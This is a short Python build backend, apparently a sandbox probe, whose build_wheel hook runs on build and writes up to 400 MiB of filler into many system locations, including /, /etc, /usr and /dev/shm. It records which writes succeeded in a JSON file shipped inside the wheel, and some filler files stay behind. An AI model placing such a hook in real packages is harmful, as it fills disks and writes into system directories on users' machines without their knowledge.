import errno
import json
import os

from wheelwright import write_wheel

MEBIBYTE = 1 << 20


def fill(folder):
    path = os.path.join(folder, "filler")
    written = 0
    try:
        with open(path, "wb", 0) as file:
            while written < 400 * MEBIBYTE:
                written += file.write(b"x" * MEBIBYTE)
    except OSError as error:
        if written:
            os.unlink(path)
        return errno.errorcode[error.errno], written // MEBIBYTE
    return "no end", written // MEBIBYTE


def build_wheel(folder, config_settings=None, metadata_directory=None):
    places = ("/tmp", "/dev/shm", os.environ["HOME"], "/build", "/", "/dev", "/etc", "/proc/sys", "/usr", "/home")
    report = json.dumps({place: fill(place) for place in places}).encode()
    return write_wheel(folder, files={"sample.py": b"", "sample.json": report})
